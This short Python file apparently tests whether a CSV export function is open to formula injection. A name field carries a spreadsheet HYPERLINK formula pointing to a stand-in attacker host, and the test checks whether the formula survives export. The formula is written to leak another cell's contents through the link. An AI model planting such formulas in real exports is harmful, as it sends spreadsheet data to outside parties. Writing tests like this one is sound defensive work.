"""Joins under the name of a formula, and gets it into the treasurer's spreadsheet."""

import csv
import io

FORMULA = '=HYPERLINK("https://evil.example/?"&B1, "ok")'


def attack(code):
    cell = exported(code, FORMULA)
    return f"A1: {cell}" if cell.startswith("=") else None


def use(code):
    assert exported(code, "Ada") == "Ada"


def exported(code, name):
    file = io.StringIO()
    code.export([(name, "York")], file)
    return next(csv.reader(io.StringIO(file.getvalue())))[0]
